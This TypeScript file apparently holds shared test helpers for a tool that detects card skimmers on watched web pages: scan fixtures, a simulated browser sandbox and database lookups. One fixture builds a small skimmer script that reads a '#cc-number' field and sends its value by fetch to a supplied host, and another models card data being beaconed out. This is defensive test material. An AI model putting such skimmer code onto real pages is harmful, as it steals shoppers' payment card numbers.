// What the tests of examinations share: scans with the code that the test wants, and a laboratory whose browser is played.
import type { ScanJudgements } from '@tillwatch/contract/shapes'
import type { Detonation } from '@tillwatch/core/detection'
import { beforeEach } from 'vitest'
import { type ExamineContext, examineScan, getJudgements, type LaboratoryScript } from '#features/judgements/index.ts'
import { coded, never, owner, scan, sha256Of, test } from '../inventory/watched-page.ts'

export const vendor = 'https://cdn.stranger-vendor.example/a.js'
export const skimmer = (host: string) =>
  `// one\ndocument.querySelector('#cc-number').onchange = function () {\n  fetch('https://${host}/c?' + this.value)\n}`
let made = 0
/** A number that no other had. */
export const another = () => ++made
/** Harmless code that no scan has had before. */
export const fresh = () => `window.menu${another()} = function () { document.body.classList.toggle('open') }`

export const calm: Detonation = { version: 1, outcome: 'ran', why: null, durationMs: 5, gates: [], behaviours: [] }
export const cutShort: Detonation = { ...calm, outcome: 'partial', why: { code: 'visitors-left', said: '' } }
export const sends = (to: string): Detonation => ({
  ...calm,
  behaviours: [{ kind: 'sends', what: 'card', to, way: 'beacon', encoding: 'base64', gate: null }],
})
/** What ran in the laboratory, and with how much time. */
export const ran: (LaboratoryScript & { timeoutMs: number })[] = []
/** Registers what the tests of the calling file need before and after them. */
export function forgetRuns(): void {
  beforeEach(() => {
    ran.length = 0
  })
}

export const context = (change: Partial<ExamineContext> = {}): ExamineContext => ({ ...test.context, ...change })
/** A laboratory whose browser answers as the test wants. */
export const laboratory = (answer: (script: LaboratoryScript) => Detonation | { none: string } = () => calm): Partial<ExamineContext> => ({
  laboratory: {
    version: 'played',
    run: async (script, { timeoutMs }) => {
      ran.push({ ...script, timeoutMs })
      return answer(script)
    },
    isFinal: ({ why }) => why?.code !== cutShort.why?.code,
  },
})
/** A scan that saw these scripts and kept their code. */
export const scanOf = (...scripts: [url: string | null, code: string][]) =>
  scan(
    scripts.map(([url, code]) => (url === null ? { ...coded('', code), kind: 'inline', url: null, finalUrl: null } : coded(url, code))),
    undefined,
    undefined,
    'desktop',
    { codes: scripts.map(([, code]) => code) },
  )
export const read = (id: string): Promise<ScanJudgements> => getJudgements(test.context, owner, id)
export async function examined(
  scripts: [url: string | null, code: string][],
  change: Partial<ExamineContext> = {},
): Promise<ScanJudgements> {
  const id = await scanOf(...scripts)
  await examineScan(context(change), id, never)
  return read(id)
}
export const storedOf = (code: string) =>
  test.database.db.selectFrom('content_judgements').selectAll().where('sha256', '=', sha256Of(code)).executeTakeFirst()
